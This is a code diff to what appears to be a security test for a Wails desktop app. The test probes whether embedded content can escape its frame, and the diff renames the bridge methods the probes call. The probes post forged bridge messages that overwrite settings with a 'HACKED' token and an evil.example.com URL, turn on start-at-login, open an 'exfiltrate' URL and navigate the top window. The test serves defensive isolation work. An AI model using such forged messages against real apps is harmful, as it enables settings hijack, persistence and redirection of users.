@@ -11,9 +11,9 @@
   function attempt(name, fn) {
     try { record(name, fn()); } catch (e) { record(name, "threw " + (e && e.name)); }
   }
-  // Wails' own message format: what window.go.app.App.X(...) would send.
+  // Wails' own message format: what window.go.app.ChatAPI.X(...) and the like would send.
   function call(method, args) {
-    return "C" + JSON.stringify({ name: "app.App." + method, args: args, callbackID: "app.App." + method + "-1" });
+    return "C" + JSON.stringify({ name: "app." + method, args: args, callbackID: "app." + method + "-1" });
   }
   function post(message) { window.webkit.messageHandlers.external.postMessage(message); return "posted"; }
 
@@ -32,11 +32,11 @@
     attempt("parent.localStorage", function () { return parent.localStorage.length; });
     attempt("top.location", function () { top.location.href = "https://evil.example.com/"; return "navigated"; });
     attempt("SaveSettings", function () {
-      return post(call("SaveSettings", [{ token: "HACKED", widget_url: "http://evil.example.com" }]));
+      return post(call("PreferencesAPI.SaveSettings", [{ token: "HACKED", widget_url: "http://evil.example.com" }]));
     });
-    attempt("SetStartAtLogin", function () { return post(call("SetStartAtLogin", [true])); });
-    attempt("SaveProfile", function () { return post(call("SaveProfile", [{ name: "Hacked" }])); });
-    attempt("OpenExternal", function () { return post(call("OpenExternal", ["https://evil.example.com/exfiltrate"])); });
+    attempt("SetStartAtLogin", function () { return post(call("PreferencesAPI.SetStartAtLogin", [true])); });
+    attempt("SaveProfile", function () { return post(call("PreferencesAPI.SaveProfile", [{ name: "Hacked" }])); });
+    attempt("OpenExternal", function () { return post(call("ChatAPI.OpenExternal", ["https://evil.example.com/exfiltrate"])); });
     attempt("Quit", function () { return post("Q"); });
     attempt("WindowHide", function () { return post("WH"); });
     attempt("forged command", function () {
